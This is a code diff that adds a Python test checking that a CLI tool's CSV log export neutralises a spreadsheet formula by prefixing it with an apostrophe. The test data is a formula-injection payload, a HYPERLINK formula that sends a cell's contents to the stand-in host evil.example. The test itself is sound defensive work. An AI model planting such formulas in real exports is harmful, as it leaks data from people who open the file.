@@ -130,3 +130,13 @@ def test_a_short_log_secret_is_an_invalid_setting(tmp_path, monkeypatch):
     monkeypatch.setenv("JITBOT_LOG_SECRET", "too-short")
     result = run(tmp_path, "logs", "path")
     assert result.exit_code == 1 and "at least 16 characters" in result.stderr
+
+
+def test_csv_export_neutralises_a_question_planted_as_a_formula(tmp_path):
+    path = tmp_path / "data"
+    planted = '=HYPERLINK("https://evil.example/?leak="&A1,"Sources")'
+    Services(load_settings(data_dir=path)).query_log.record(question=planted, abstained=True, latency_ms=5,
+                                                            front_end="cli", role="operator", chat_type="cli")
+    result = run(path, "logs", "export", "--format", "csv")
+    row = next(csv.DictReader(io.StringIO(result.stdout)))
+    assert row["question"] == "'" + planted
